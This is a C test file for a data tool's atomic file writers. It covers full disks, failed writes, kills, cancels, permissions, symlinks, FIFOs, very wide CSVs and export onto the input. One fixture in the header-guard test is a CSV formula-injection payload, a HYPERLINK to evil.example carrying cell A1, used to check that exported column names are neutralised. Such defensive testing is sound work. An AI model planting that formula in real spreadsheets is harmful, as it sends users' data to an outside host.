/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Writers under hostile conditions (issue 13): a full disk, a failing
 * write, a cancel, a 0600 or symlinked target, formula-looking column
 * names, 100,000 extra columns, an export onto its own input.  Every
 * writer goes through OtAtomicFile (src/core/base/ot-atomic-file.c); see
 * docs/robustness.md. */
#include <errno.h>
#include <signal.h>
#include <sys/wait.h>
#include <glib/gstdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "ot-atomic-file.h"
#include "ot-atomic-file-private.h"
#include "ot-csv.h"
#include "ot-error.h"
#include "ot-export.h"
#include "ot-generator.h"
#include "ot-loader.h"
#include "ot-writer.h"
#include "ot-test-util.h"
#include "scene-fixture.h"

#define OLD_CONTENTS "old contents, kept byte for byte\n"

/* Helpers ------------------------------------------------------------------ */

static char *
make_dir (void)
{
  g_autoptr(GError) error = NULL;
  char *dir = g_dir_make_tmp ("ot-hostile-writers-XXXXXX", &error);

  g_assert_no_error (error);
  return dir;
}

static void
remove_tree (const char *path)
{
  g_autoptr(GDir) dir = g_dir_open (path, 0, NULL);
  const char *name;

  while (dir != NULL && (name = g_dir_read_name (dir)) != NULL)
    {
      g_autofree char *child = g_build_filename (path, name, NULL);
      struct stat st;

      if (lstat (child, &st) == 0 && S_ISDIR (st.st_mode))
        remove_tree (child);
      else
        g_unlink (child);
    }
  g_rmdir (path);
}

static int
compare_names (gconstpointer a,
               gconstpointer b)
{
  return g_strcmp0 (*(char * const *) a, *(char * const *) b);
}

/* The names in @dir, sorted, joined by spaces (hidden ones too). */
static char *
list_dir (const char *path)
{
  g_autoptr(GDir) dir = g_dir_open (path, 0, NULL);
  g_autoptr(GPtrArray) names = g_ptr_array_new_with_free_func (g_free);
  const char *name;

  g_assert_nonnull (dir);
  while ((name = g_dir_read_name (dir)) != NULL)
    g_ptr_array_add (names, g_strdup (name));
  g_ptr_array_sort (names, compare_names);
  g_ptr_array_add (names, NULL);
  return g_strjoinv (" ", (char **) names->pdata);
}

static void
assert_contents (const char *path,
                 const char *expected)
{
  g_autofree char *contents = NULL;
  gsize length;

  g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
  g_assert_cmpuint (length, ==, strlen (expected));
  g_assert_cmpstr (contents, ==, expected);
}

static guint
file_mode (const char *path)
{
  struct stat st;

  g_assert_cmpint (stat (path, &st), ==, 0);
  return st.st_mode & 07777;
}

/* A data set of @n generated incidents. */
static OtDataset *
generated (guint n)
{
  g_autoptr(GBytes) bytes = ot_generator_to_bytes (7, n, OT_FORMAT_CSV);
  OtDataset *ds = ot_dataset_new ();

  g_assert_true (ot_loader_load_data (ds, "gen.csv", g_bytes_get_data (bytes, NULL),
                                      g_bytes_get_size (bytes), NULL, NULL));
  g_assert_cmpuint (ot_dataset_get_n_incidents (ds), ==, n);
  return ds;
}

/* Every writer of the core, by name, writing @ds (or a picture) to @path. */
typedef enum {
  W_SAVE_CSV, W_SAVE_JSON, W_SAVE_JSONL, W_CSV_FILTERED, W_PNG, W_SVG, W_PDF, N_WRITERS
} Writer;

static const char * const writer_names[N_WRITERS] = {
  "out.csv", "out.json", "out.jsonl", "filtered.csv", "chart.png", "chart.svg", "chart.pdf",
};

/* One small scene for every picture (drawing is the slow part under
 * valgrind). */
static OtScene *scene;

static gboolean
run_writer (Writer      w,
            OtDataset  *ds,
            const char *path,
            GError    **error)
{
  g_autoptr(GFile) file = g_file_new_for_path (path);
  OtExportOptions opts;

  switch (w)
    {
    case W_SAVE_CSV: return ot_writer_save (ds, OT_FORMAT_CSV, file, NULL, error);
    case W_SAVE_JSON: return ot_writer_save (ds, OT_FORMAT_JSON, file, NULL, error);
    case W_SAVE_JSONL: return ot_writer_save (ds, OT_FORMAT_JSONL, file, NULL, error);
    case W_CSV_FILTERED: return ot_writer_write_csv_filtered (ds, NULL, file, NULL, error);
    case W_PNG:
    case W_SVG:
    case W_PDF:
    case N_WRITERS:
    default:
      if (scene == NULL)
        scene = fixture_network_scene (ot_theme_light ());
      ot_export_options_init (&opts);
      opts.width = 160;
      opts.height = 100;
      return ot_export_scene (scene, NULL, &opts, path, error);
    }
}

/* A full disk: a real one ------------------------------------------------- */

/* On a 64 KiB tmpfs, writing more than fits fails with ENOSPC and leaves
 * the old file byte for byte and nothing else.  g_file_replace_contents()
 * used to rename the cut temporary file over the target. */
static void
test_enospc_tmpfs (void)
{
  g_autofree char *dir = make_dir ();
  g_autofree char *mnt = g_build_filename (dir, "small", NULL);
  g_autoptr(OtDataset) ds = generated (400);   /* about 100 KB of CSV */

  g_assert_cmpint (g_mkdir (mnt, 0700), ==, 0);
  if (mount ("tmpfs", mnt, "tmpfs", MS_NOSUID | MS_NODEV, "size=64k") != 0)
    {
      g_autofree char *why = g_strdup_printf ("cannot mount a small tmpfs (%s); "
                                              "the injected ENOSPC test covers this",
                                              g_strerror (errno));
      g_test_skip (why);
      remove_tree (dir);
      return;
    }

  for (Writer w = W_SAVE_CSV; w <= W_CSV_FILTERED; w++)
    {
      g_autofree char *path = g_build_filename (mnt, writer_names[w], NULL);
      g_autofree char *names = NULL;
      g_autoptr(GError) error = NULL;

      g_assert_true (g_file_set_contents (path, OLD_CONTENTS, -1, NULL));
      g_assert_false (run_writer (w, ds, path, &error));
      g_assert_error (error, G_FILE_ERROR, G_FILE_ERROR_NOSPC);
      g_assert_nonnull (strstr (error->message, writer_names[w]));
      g_assert_nonnull (strstr (error->message, "the old file is kept"));
      assert_contents (path, OLD_CONTENTS);
      names = list_dir (mnt);
      g_assert_cmpstr (names, ==, writer_names[w]);
      g_unlink (path);
    }

  g_assert_cmpint (umount2 (mnt, MNT_DETACH), ==, 0);
  remove_tree (dir);
}

/* A failing write, injected (also without root) ----------------------------- */

static void
check_injected_failure (Writer      w,
                        OtDataset  *ds,
                        const char *dir,
                        guint       nth,
                        gboolean    no_tmpfile)
{
  g_autofree char *path = g_build_filename (dir, writer_names[w], NULL);
  g_autofree char *names = NULL;
  g_autoptr(GError) error = NULL;

  g_assert_true (g_file_set_contents (path, OLD_CONTENTS, -1, NULL));
  ot_atomic_file_faults_reset ();
  ot_atomic_file_faults.fail_write = nth;
  ot_atomic_file_faults.fail_errno = ENOSPC;
  ot_atomic_file_faults.no_tmpfile = no_tmpfile;
  g_test_message ("%s: write %u fails%s", writer_names[w], nth, no_tmpfile ? " (named temporary)" : "");
  g_assert_false (run_writer (w, ds, path, &error));
  g_assert_cmpuint (ot_atomic_file_faults.n_writes, >=, nth);
  ot_atomic_file_faults_reset ();
  g_assert_error (error, G_FILE_ERROR, G_FILE_ERROR_NOSPC);
  g_assert_nonnull (strstr (error->message, "No space left on device"));
  assert_contents (path, OLD_CONTENTS);
  names = list_dir (dir);
  g_assert_cmpstr (names, ==, writer_names[w]);
  g_unlink (path);
}

static void
test_enospc_injected (void)
{
  g_autofree char *dir = make_dir ();
  g_autoptr(OtDataset) ds = generated (40);

  /* The first write writes half, the next fails; PNG writes in many
   * pieces: also fail a later one. */
  for (Writer w = 0; w < N_WRITERS; w++)
    for (guint nth = 1; nth <= (w == W_PNG ? 3u : 1u); nth += 2)
      {
        check_injected_failure (w, ds, dir, nth, FALSE);
        check_injected_failure (w, ds, dir, nth, TRUE);
      }
  remove_tree (dir);
}

/* The same writers succeed afterwards, through every way of making the
 * temporary file (unnamed and linked; named; unnamed and copied, as
 * without /proc), replace the target whole and keep its mode. */
static void
test_replace_whole (void)
{
  g_autofree char *dir = make_dir ();
  g_autoptr(OtDataset) ds = generated (30);

  for (Writer w = 0; w < N_WRITERS; w++)
    for (int way = 0; way <= 2; way++)
      {
        g_autofree char *path = g_build_filename (dir, writer_names[w], NULL);
        g_autofree char *names = NULL;
        g_autofree char *contents = NULL;
        g_autoptr(GError) error = NULL;

        g_assert_true (g_file_set_contents_full (path, OLD_CONTENTS, -1, G_FILE_SET_CONTENTS_NONE,
                                                 0604, NULL));
        ot_atomic_file_faults_reset ();
        ot_atomic_file_faults.no_tmpfile = way == 1;
        ot_atomic_file_faults.no_link = way == 2;
        g_assert_true (run_writer (w, ds, path, &error));
        ot_atomic_file_faults_reset ();
        g_assert_no_error (error);
        g_assert_cmpuint (file_mode (path), ==, 0604);
        g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
        g_assert_cmpstr (contents, !=, OLD_CONTENTS);
        if (w <= W_CSV_FILTERED)
          {
            g_autoptr(OtDataset) back = ot_dataset_new ();

            g_assert_true (ot_loader_load_data (back, writer_names[w], contents,
                                                strlen (contents), NULL, NULL));
            g_assert_cmpuint (ot_dataset_get_n_incidents (back), ==, 30);
          }
        names = list_dir (dir);
        g_assert_cmpstr (names, ==, writer_names[w]);
        g_unlink (path);
      }
  remove_tree (dir);
}

/* While the data is being written the folder shows nothing new: the
 * temporary file has no name, so a killed process leaves nothing. */
static void
test_unnamed_while_writing (void)
{
  g_autofree char *dir = make_dir ();
  g_autofree char *path = g_build_filename (dir, "t.csv", NULL);
  g_autoptr(OtAtomicFile) file = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *names = NULL;

  g_assert_true (g_file_set_contents (path, OLD_CONTENTS, -1, NULL));
  file = ot_atomic_file_new (path, &error);
  g_assert_no_error (error);
  g_assert_true (ot_atomic_file_write (file, "new\n", 4, &error));
  names = list_dir (dir);
  if (g_strcmp0 (names, "t.csv") != 0)
    {
      g_test_skip ("no O_TMPFILE on this file system: a named temporary file is used");
      remove_tree (dir);
      return;
    }
  g_assert_true (ot_atomic_file_commit (file, NULL, &error));
  g_assert_no_error (error);
  assert_contents (path, "new\n");
  g_clear_pointer (&names, g_free);
  names = list_dir (dir);
  g_assert_cmpstr (names, ==, "t.csv");
  remove_tree (dir);
}

/* A process killed (SIGKILL) in the middle of a write leaves the old file
 * and, with O_TMPFILE, nothing else. */
static void
test_killed_while_writing (void)
{
  g_autofree char *dir = make_dir ();
  g_autofree char *path = g_build_filename (dir, "t.csv", NULL);
  g_autofree char *names = NULL;
  int status = 0;
  pid_t pid;

  g_assert_true (g_file_set_contents (path, OLD_CONTENTS, -1, NULL));
  pid = fork ();
  g_assert_cmpint (pid, >=, 0);
  if (pid == 0)
    {
      OtAtomicFile *file = ot_atomic_file_new (path, NULL);

      if (file == NULL || !ot_atomic_file_write (file, "partial", 7, NULL))
        _exit (1);
      raise (SIGKILL);
      _exit (2);
    }
  g_assert_cmpint (waitpid (pid, &status, 0), ==, pid);
  g_assert_true (WIFSIGNALED (status));
  g_assert_cmpint (WTERMSIG (status), ==, SIGKILL);
  assert_contents (path, OLD_CONTENTS);
  names = list_dir (dir);
  g_assert_cmpstr (names, ==, "t.csv");
  remove_tree (dir);
}

/* Cancel -------------------------------------------------------------------- */

static void
on_written (GObject      *source,
            GAsyncResult *result,
            gpointer      data)
{
  GError **error = data;

  if (!ot_writer_write_csv_filtered_finish (result, error))
    g_assert_nonnull (*error);
  else
    *error = g_error_new_literal (G_IO_ERROR, G_IO_ERROR_NONE, "done");
}

static void
test_cancel (void)
{
  g_autofree char *dir = make_dir ();
  g_autofree char *path = g_build_filename (dir, "t.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(OtDataset) ds = generated (200);
  g_autoptr(GError) error = NULL;
  g_autofree char *names = NULL;
  g_autofree char *contents = NULL;
  guint8 *mask = g_malloc0 (200);

  g_assert_true (g_file_set_contents (path, OLD_CONTENTS, -1, NULL));
  g_cancellable_cancel (cancellable);
  g_assert_false (ot_writer_write_csv_filtered (ds, NULL, file, cancellable, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_error (&error);
  g_assert_false (ot_writer_save (ds, OT_FORMAT_JSON, file, cancellable, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_error (&error);

  /* In a worker, as "Export CSV…" runs it. */
  ot_writer_write_csv_filtered_async (ds, NULL, file, cancellable, on_written, &error);
  while (error == NULL)
    g_main_context_iteration (NULL, TRUE);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_clear_error (&error);
  assert_contents (path, OLD_CONTENTS);
  names = list_dir (dir);
  g_assert_cmpstr (names, ==, "t.csv");

  /* Not cancelled: the masked rows only (the mask was copied). */
  mask[3] = mask[150] = 1;
  ot_writer_write_csv_filtered_async (ds, mask, file, NULL, on_written, &error);
  memset (mask, 0, 200);
  while (error == NULL)
    g_main_context_iteration (NULL, TRUE);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NONE);
  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  {
    g_autoptr(OtDataset) back = ot_dataset_new ();

    g_assert_true (ot_loader_load_data (back, "t.csv", contents, strlen (contents), NULL, NULL));
    g_assert_cmpuint (ot_dataset_get_n_incidents (back), ==, 2);
    g_assert_cmpstr (ot_dataset_get_incident (back, 0)->id, ==,
                     ot_dataset_get_incident (ds, 3)->id);
    g_assert_cmpstr (ot_dataset_get_incident (back, 1)->id, ==,
                     ot_dataset_get_incident (ds, 150)->id);
  }
  g_free (mask);
  remove_tree (dir);
}

/* Permissions and links ------------------------------------------------------ */

/* The mode of the file replaced is kept (and, as root, its owner). */
static void
test_mode_kept (void)
{
  g_autofree char *dir = make_dir ();
  g_autoptr(OtDataset) ds = generated (20);
  mode_t old_umask = umask (022);

  for (Writer w = 0; w < N_WRITERS; w++)
    {
      g_autofree char *path = g_build_filename (dir, writer_names[w], NULL);
      g_autoptr(GError) error = NULL;

      /* A new file: 0666 minus the umask. */
      g_assert_true (run_writer (w, ds, path, &error));
      g_assert_no_error (error);
      g_assert_cmpuint (file_mode (path), ==, 0644);
      /* An existing private file stays private; another mode stays too. */
      g_assert_cmpint (g_chmod (path, 0600), ==, 0);
      g_assert_true (run_writer (w, ds, path, &error));
      g_assert_cmpuint (file_mode (path), ==, 0600);
      g_assert_cmpint (g_chmod (path, 0640), ==, 0);
      g_assert_true (run_writer (w, ds, path, &error));
      g_assert_cmpuint (file_mode (path), ==, 0640);
      /* Root writing another user's file gives it back to that user. */
      if (geteuid () == 0)
        {
          struct stat st;

          g_assert_cmpint (chown (path, 65534, 65534), ==, 0);
          g_assert_true (run_writer (w, ds, path, &error));
          g_assert_cmpint (stat (path, &st), ==, 0);
          g_assert_cmpuint (st.st_uid, ==, 65534);
          g_assert_cmpuint (st.st_gid, ==, 65534);
          g_assert_cmpuint (st.st_mode & 07777, ==, 0640);
        }
    }
  umask (old_umask);
  remove_tree (dir);
}

/* A symlinked target stays a link; the file it points to is replaced
 * (and keeps its mode).  A dangling link creates its target; a loop is
 * refused. */
static void
test_symlink (void)
{
  g_autofree char *dir = make_dir ();
  g_autofree char *real_dir = g_build_filename (dir, "real", NULL);
  g_autofree char *dangling = g_build_filename (dir, "dangling.csv", NULL);
  g_autofree char *created = g_build_filename (real_dir, "new.csv", NULL);
  g_autofree char *loop = g_build_filename (dir, "loop.csv", NULL);
  g_autoptr(OtDataset) ds = generated (20);
  g_autoptr(GError) error = NULL;
  g_autofree char *target = NULL;
  g_autofree char *names = NULL;
  struct stat st;

  g_assert_cmpint (g_mkdir (real_dir, 0700), ==, 0);
  for (Writer w = 0; w < N_WRITERS; w++)
    {
      const char *ext = strrchr (writer_names[w], '.') + 1;
      g_autofree char *real_ext = g_strdup_printf ("%s/data.%s", real_dir, ext);
      g_autofree char *link_ext = g_strdup_printf ("%s/link.%s", dir, ext);
      g_autofree char *link2_ext = g_strdup_printf ("%s/link2.%s", dir, ext);
      g_autofree char *relative = g_strdup_printf ("real/data.%s", ext);
      g_autofree char *contents = NULL;
      const char *via;

      g_clear_pointer (&target, g_free);
      g_unlink (link_ext);
      g_unlink (link2_ext);
      g_assert_cmpint (symlink (relative, link_ext), ==, 0);
      g_assert_cmpint (symlink (link_ext, link2_ext), ==, 0);   /* a link to a link */
      via = w % 2 ? link2_ext : link_ext;
      g_assert_true (g_file_set_contents_full (real_ext, OLD_CONTENTS, -1, G_FILE_SET_CONTENTS_NONE,
                                               0600, NULL));
      g_assert_true (run_writer (w, ds, via, &error));
      g_assert_no_error (error);
      g_assert_cmpint (lstat (link_ext, &st), ==, 0);
      g_assert_true (S_ISLNK (st.st_mode));
      g_assert_cmpint (lstat (link2_ext, &st), ==, 0);
      g_assert_true (S_ISLNK (st.st_mode));
      target = g_file_read_link (link_ext, NULL);
      g_assert_cmpstr (target, ==, relative);
      g_assert_true (g_file_get_contents (real_ext, &contents, NULL, NULL));
      g_assert_cmpstr (contents, !=, OLD_CONTENTS);
      g_assert_cmpuint (file_mode (real_ext), ==, 0600);
    }
  names = list_dir (real_dir);
  g_assert_cmpstr (names, ==, "data.csv data.json data.jsonl data.pdf data.png data.svg");

  g_assert_cmpint (symlink (created, dangling), ==, 0);
  g_assert_true (run_writer (W_SAVE_CSV, ds, dangling, &error));
  g_assert_no_error (error);
  g_assert_true (g_file_test (created, G_FILE_TEST_IS_REGULAR));
  g_assert_cmpint (lstat (dangling, &st), ==, 0);
  g_assert_true (S_ISLNK (st.st_mode));

  g_assert_cmpint (symlink ("loop.csv", loop), ==, 0);
  g_assert_false (run_writer (W_CSV_FILTERED, ds, loop, &error));
  g_assert_error (error, G_FILE_ERROR, G_FILE_ERROR_LOOP);
  g_assert_nonnull (strstr (error->message, "too many levels of symbolic links"));
  g_assert_cmpint (lstat (loop, &st), ==, 0);
  g_assert_true (S_ISLNK (st.st_mode));
  remove_tree (dir);
}

/* A pipe, a device: refused, not replaced by a file. */
static void
test_not_regular (void)
{
  g_autofree char *dir = make_dir ();
  g_autofree char *fifo = g_build_filename (dir, "pipe.csv", NULL);
  g_autoptr(OtDataset) ds = generated (5);
  g_autoptr(GError) error = NULL;
  g_autofree char *names = NULL;
  struct stat st;

  g_assert_cmpint (mkfifo (fifo, 0600), ==, 0);
  for (Writer w = 0; w < N_WRITERS; w++)
    {
      g_autofree char *path = g_strdup_printf ("%s/pipe.%s", dir, strrchr (writer_names[w], '.') + 1);

      if (strcmp (path, fifo) != 0)
        g_assert_cmpint (g_rename (fifo, path), ==, 0);
      g_assert_false (run_writer (w, ds, path, &error));
      g_assert_error (error, OT_ERROR, OT_ERROR_INVALID);
      g_assert_nonnull (strstr (error->message, "not a regular file"));
      g_clear_error (&error);
      g_assert_cmpint (lstat (path, &st), ==, 0);
      g_assert_true (S_ISFIFO (st.st_mode));
      g_clear_pointer (&names, g_free);
      names = list_dir (dir);
      g_assert_null (strchr (names, ' '));
      g_assert_cmpint (g_rename (path, fifo), ==, 0);
    }
  remove_tree (dir);
}

/* Spreadsheet-safe column names --------------------------------------------- */

/* A data set of one incident with these extra columns (key = value). */
static OtDataset *
with_extras (const char * const *keys,
             guint               n_keys)
{
  OtDataset *ds = ot_dataset_new ();
  OtIncident incident = { 0 };
  g_autofree OtExtra *extras = g_new0 (OtExtra, n_keys);

  ot_test_add (ds, "X1", "tungsten", NULL, 5, "2024-01-02", "CN", NULL, NULL, NULL, "US");
  incident = *ot_dataset_get_incident (ds, 0);
  g_object_unref (ds);
  ds = ot_dataset_new ();
  incident.id = ot_dataset_store (ds, "X1");
  for (guint i = 0; i < n_keys; i++)
    {
      extras[i].key = ot_dataset_intern (ds, keys[i]);
      extras[i].value = ot_dataset_intern (ds, "v");
    }
  incident.extras = extras;
  incident.n_extras = n_keys;
  incident.via = NULL;
  incident.n_via = 0;
  incident.file = NULL;
  g_assert_true (ot_dataset_add (ds, &incident));
  return ds;
}

/* The fields of the first line of @csv, as a spreadsheet reads them. */
static GStrv
header_cells (GBytes *csv)
{
  const char *text = g_bytes_get_data (csv, NULL);
  const char *end = text + g_bytes_get_size (csv);
  g_autoptr(GStrvBuilder) cells = g_strv_builder_new ();
  GString *cell = g_string_new (NULL);
  gboolean quoted = FALSE;

  for (const char *p = text; p < end; p++)
    {
      if (quoted && *p == '"' && p + 1 < end && p[1] == '"')
        g_string_append_c (cell, *p++);
      else if (*p == '"')
        quoted = !quoted;
      else if (!quoted && (*p == ',' || *p == '\n'))
        {
          g_strv_builder_add (cells, cell->str);
          g_string_truncate (cell, 0);
          if (*p == '\n')
            break;
        }
      else
        g_string_append_c (cell, *p);
    }
  g_string_free (cell, TRUE);
  return g_strv_builder_end (cells);
}

static void
test_header_guarded (void)
{
  static const char * const keys[] = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+x", "-x", "@SUM(A1)",
    "\tx", "\rx", "plain", "-12.5",
  };
  static const char * const expected[] = {
    "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'+x", "'-x", "'@SUM(A1)",
    "'\tx", "'\rx", "plain", "-12.5",
  };
  g_autoptr(OtDataset) ds = with_extras (keys, G_N_ELEMENTS (keys));
  g_autoptr(GBytes) safe = ot_writer_csv_filtered (ds, NULL);
  g_autoptr(GBytes) exact = ot_writer_to_bytes (ds, OT_FORMAT_CSV);
  g_auto(GStrv) cells = header_cells (safe);
  g_auto(GStrv) exact_cells = header_cells (exact);

  g_assert_cmpuint (g_strv_length (cells), ==, OT_N_COLUMNS + G_N_ELEMENTS (keys));
  for (guint i = 0; i < G_N_ELEMENTS (keys); i++)
    {
      g_assert_cmpstr (cells[OT_N_COLUMNS + i], ==, expected[i]);
      /* The round-trip CSV keeps the names as they are. */
      g_assert_cmpstr (exact_cells[OT_N_COLUMNS + i], ==, keys[i]);
    }
}

/* Extra keys that a CSV header cannot name apart (spaces around them,
 * empty) or twice: read as the CSV reader reads column names, so every
 * writer writes back what was read (found by the writers fuzz target). */
static void
test_extra_key_names (void)
{
  const char *jsonl =
    "{\"id\": \"A\", \"date\": \"2024\", \"mineral\": \"tungsten\", \"origin\": \"CN\", "
    "\"note \": \"1\", \" note\": \"2\", \"\": \"3\", \" \": \"4\", \"tag\": \"x\"}\n";
  const char *csv = "id,date,mineral,origin,tag,note,tag, note \nA,2024,tungsten,CN,x,1,y,2\n";
  g_autoptr(OtDataset) ds = ot_dataset_new ();
  g_autoptr(OtDataset) from_csv = ot_dataset_new ();
  const OtIncident *incident;
  gboolean warned = FALSE;

  g_assert_true (ot_loader_load_data (ds, "keys.jsonl", jsonl, strlen (jsonl), NULL, NULL));
  incident = ot_dataset_get_incident (ds, 0);
  g_assert_cmpuint (incident->n_extras, ==, 2);   /* note (once) and tag */
  for (guint i = 0; i < incident->n_extras; i++)
    g_assert_true (strcmp (incident->extras[i].key, "note") == 0
                   || strcmp (incident->extras[i].key, "tag") == 0);
  for (guint i = 0; i < ot_dataset_get_problems (ds)->len; i++)
    {
      g_autofree char *text = ot_problem_to_string (ot_dataset_get_problems (ds)->pdata[i]);

      warned |= strstr (text, "key note appears twice") != NULL;
    }
  g_assert_true (warned);

  g_assert_true (ot_loader_load_data (from_csv, "keys.csv", csv, strlen (csv), NULL, NULL));
  incident = ot_dataset_get_incident (from_csv, 0);
  g_assert_cmpuint (incident->n_extras, ==, 2);
  g_assert_cmpstr (incident->extras[0].key, ==, "tag");
  g_assert_cmpstr (incident->extras[0].value, ==, "x");
  g_assert_cmpstr (incident->extras[1].key, ==, "note");
  g_assert_cmpstr (incident->extras[1].value, ==, "1");

  for (OtFormat f = OT_FORMAT_CSV; f <= OT_FORMAT_JSONL; f++)
    {
      g_autoptr(GBytes) bytes = ot_writer_to_bytes (ds, f);
      g_autoptr(OtDataset) back = ot_dataset_new ();
      const char *name = f == OT_FORMAT_CSV ? "b.csv" : f == OT_FORMAT_JSON ? "b.json" : "b.jsonl";

      g_assert_true (ot_loader_load_data (back, name, g_bytes_get_data (bytes, NULL),
                                          g_bytes_get_size (bytes), NULL, NULL));
      g_assert_cmpuint (ot_dataset_get_incident (back, 0)->n_extras, ==, 2);
    }
}

/* 100,000 extra columns ------------------------------------------------------ */

#define WIDE_COLUMNS 100000
#define WIDE_ROWS    2

/* The fields of a line without quotes, split in place at each comma
 * (g_strsplit() calls strstr() per field, which ASan checks against the
 * whole rest of the line: quadratic). */
static GPtrArray *
split_plain_fields (char *line)
{
  GPtrArray *fields = g_ptr_array_new ();

  g_ptr_array_add (fields, line);
  for (char *p = line; *p != '\0'; p++)
    if (*p == ',')
      {
        *p = '\0';
        g_ptr_array_add (fields, p + 1);
      }
  return fields;
}

/* Every row holds every column, in an order of its own, so that a value
 * must be found by its key. */
static void
test_many_columns (void)
{
  g_autoptr(OtDataset) ds = ot_dataset_new ();
  g_autofree OtExtra *extras = g_new0 (OtExtra, WIDE_COLUMNS);
  g_autoptr(GPtrArray) keys = g_ptr_array_new ();
  g_autoptr(GBytes) csv = NULL;
  g_auto(GStrv) lines = NULL;

  for (guint c = 0; c < WIDE_COLUMNS; c++)
    {
      char key[32];

      g_snprintf (key, sizeof key, "c%u", c);
      g_ptr_array_add (keys, (gpointer) ot_dataset_intern (ds, key));
    }
  for (guint r = 0; r < WIDE_ROWS; r++)
    {
      g_autoptr(OtDataset) scratch = ot_dataset_new ();
      OtIncident incident;
      char id[16];

      g_snprintf (id, sizeof id, "W%u", r);
      ot_test_add (scratch, id, "tungsten", NULL, 1, "2024", "CD", NULL, NULL, NULL, "RW");
      incident = *ot_dataset_get_incident (scratch, 0);
      incident.id = ot_dataset_store (ds, id);
      incident.file = NULL;
      for (guint c = 0; c < WIDE_COLUMNS; c++)
        {
          /* Row 0 in order, the others rotated. */
          guint k = (c + r * 7919) % WIDE_COLUMNS;
          char value[32];

          g_snprintf (value, sizeof value, "%u", r * WIDE_COLUMNS + k);
          extras[c].key = keys->pdata[k];
          extras[c].value = ot_dataset_store (ds, value);
        }
      incident.extras = extras;
      incident.n_extras = WIDE_COLUMNS;
      g_assert_true (ot_dataset_add (ds, &incident));
    }

  csv = ot_writer_csv_filtered (ds, NULL);
  lines = g_strsplit (g_bytes_get_data (csv, NULL), "\n", -1);
  g_assert_cmpuint (g_strv_length (lines), ==, WIDE_ROWS + 2);   /* and "" after the last \n */
  for (guint r = 0; r < WIDE_ROWS; r++)
    {
      g_autoptr(GPtrArray) fields = split_plain_fields (lines[r + 1]);

      g_assert_cmpuint (fields->len, ==, OT_N_COLUMNS + WIDE_COLUMNS);
      for (guint c = 0; c < WIDE_COLUMNS; c += 997)
        {
          char value[32];

          g_snprintf (value, sizeof value, "%u", r * WIDE_COLUMNS + c);
          g_assert_cmpstr (fields->pdata[OT_N_COLUMNS + c], ==, value);
        }
      {
        g_autofree char *last = g_strdup_printf ("%u", r * WIDE_COLUMNS + WIDE_COLUMNS - 1);

        g_assert_cmpstr (fields->pdata[OT_N_COLUMNS + WIDE_COLUMNS - 1], ==, last);
      }
    }
}

/* --export onto its own input ------------------------------------------------- */

static int
run_export (const char  *out,
            const char  *in,
            char       **err)
{
  const char *app = g_getenv ("OT_APP");
  const char *argv[] = { app, "--export", out, in, NULL };
  g_autoptr(GError) error = NULL;
  int status = -1;

  g_assert_true (g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_STDOUT_TO_DEV_NULL, NULL, NULL,
                               NULL, err, &status, &error));
  g_assert_no_error (error);
  return WIFEXITED (status) ? WEXITSTATUS (status) : -1;
}

static void
test_export_own_input (void)
{
  g_autofree char *dir = make_dir ();
  g_autofree char *samples = g_build_filename (g_getenv ("OT_SOURCE_ROOT"), "data", "samples",
                                               "incidents.csv", NULL);
  g_autofree char *input = g_build_filename (dir, "x.png", NULL);
  g_autofree char *other_path = g_build_filename (dir, ".", "x.png", NULL);
  g_autofree char *linked = g_build_filename (dir, "link.png", NULL);
  g_autofree char *hard = g_build_filename (dir, "hard.png", NULL);
  g_autofree char *good = g_build_filename (dir, "out.png", NULL);
  g_autofree char *original = NULL;
  const char *outputs[] = { input, other_path, linked, hard };

  if (g_getenv ("OT_APP") == NULL)
    {
      g_test_skip ("OT_APP is not set (run through meson test)");
      return;
    }
  g_assert_true (g_file_get_contents (samples, &original, NULL, NULL));
  g_assert_true (g_file_set_contents (input, original, -1, NULL));
  g_assert_cmpint (symlink ("x.png", linked), ==, 0);
  g_assert_cmpint (link (input, hard), ==, 0);

  for (guint i = 0; i < G_N_ELEMENTS (outputs); i++)
    {
      g_autofree char *err = NULL;

      g_assert_cmpint (run_export (outputs[i], input, &err), ==, 2);
      g_assert_nonnull (strstr (err, "is the input file"));
      g_assert_nonnull (strstr (err, "choose another name"));
      assert_contents (input, original);
      g_clear_pointer (&err, g_free);
      /* The input given through the link, the export to the file. */
      g_assert_cmpint (run_export (input, outputs[i], &err), ==, 2);
      assert_contents (input, original);
    }
  {
    g_autofree char *err = NULL;

    g_assert_cmpint (run_export (good, linked, &err), ==, 0);
    g_assert_true (g_file_test (good, G_FILE_TEST_IS_REGULAR));
  }
  remove_tree (dir);
}

int
main (int    argc,
      char **argv)
{
  int status;

  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/hostile-writers/enospc-tmpfs", test_enospc_tmpfs);
  g_test_add_func ("/hostile-writers/enospc-injected", test_enospc_injected);
  g_test_add_func ("/hostile-writers/replace-whole", test_replace_whole);
  g_test_add_func ("/hostile-writers/unnamed-while-writing", test_unnamed_while_writing);
  g_test_add_func ("/hostile-writers/killed-while-writing", test_killed_while_writing);
  g_test_add_func ("/hostile-writers/cancel", test_cancel);
  g_test_add_func ("/hostile-writers/mode-kept", test_mode_kept);
  g_test_add_func ("/hostile-writers/symlink", test_symlink);
  g_test_add_func ("/hostile-writers/not-regular", test_not_regular);
  g_test_add_func ("/hostile-writers/header-guarded", test_header_guarded);
  g_test_add_func ("/hostile-writers/extra-key-names", test_extra_key_names);
  g_test_add_func ("/hostile-writers/many-columns", test_many_columns);
  g_test_add_func ("/hostile-writers/export-own-input", test_export_own_input);

  status = g_test_run ();
  g_clear_pointer (&scene, ot_scene_unref);
  return status;
}
